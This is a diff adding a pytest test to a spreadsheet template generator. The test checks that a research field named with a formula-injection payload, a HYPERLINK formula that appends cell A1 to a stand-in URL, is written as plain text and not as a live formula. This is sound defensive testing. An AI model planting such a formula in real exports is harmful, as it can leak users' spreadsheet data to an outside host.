@@ -187,6 +187,18 @@ def test_template_offers_drop_downs_for_every_choice_country_and_research_field(
     assert lists.protection.sheet
 
 
+def test_a_research_field_named_like_a_formula_is_listed_as_text(season):
+    name = '=HYPERLINK("http://x"&A1,"Open CV")'
+    ResearchField.objects.create(slug="zz-hyperlink", name=name)
+
+    lists = openpyxl.load_workbook(io.BytesIO(spreadsheet.build_template(season)))["Lists"]
+
+    (cell,) = [cell for cell in lists["E"] if cell.value == name]
+    assert cell.data_type == "s"
+    assert lists.cell(row=cell.row, column=4).value == "zz-hyperlink"
+    assert not [cell for row in lists.iter_rows() for cell in row if cell.data_type == "f"]
+
+
 @pytest.mark.parametrize("role", ["organiser", "coordinator"])
 def test_organisers_and_coordinators_download_the_template(api_as, season, role):
     response = api_as(role).get(TEMPLATE_URL, {"season": season.pk})
